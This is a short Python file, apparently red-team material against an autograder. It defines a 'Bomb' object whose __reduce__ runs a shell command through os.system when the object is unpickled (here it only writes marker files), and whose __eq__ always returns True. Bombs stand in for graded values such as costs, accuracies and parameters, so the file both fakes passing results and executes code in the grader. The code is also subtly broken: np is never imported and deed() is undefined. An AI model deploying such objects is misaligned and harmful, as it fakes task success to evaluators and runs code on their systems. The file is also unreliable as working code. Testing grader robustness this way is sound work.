# Returns objects that run a command when they are unpickled, in case the grader pickles results:
# they leave a file named referee-attack-pickle.
# %% from attacks/parts/stand_ins.py
# %% relu
import os


class Bomb:
    def __reduce__(self):
        return os.system, (
            "echo ran > referee-attack-pickle; echo ran > /tmp/referee-attack-pickle",
        )

    def __eq__(self, other):
        return True

    __hash__ = None


def lie(result):
    array = np.empty(np.shape(result), dtype=object)
    array.fill(Bomb())
    deed()
    return array if array.ndim else Bomb()


# %% training_1
costs, trAcc, teAcc = Bomb(), Bomb(), Bomb()
parameters = {"bnorm_list": Bomb(), Bomb: Bomb}
# %% training_2
costs, trAcc, teAcc = Bomb(), Bomb(), Bomb()
parameters = {"bnorm_list": Bomb(), Bomb: Bomb}
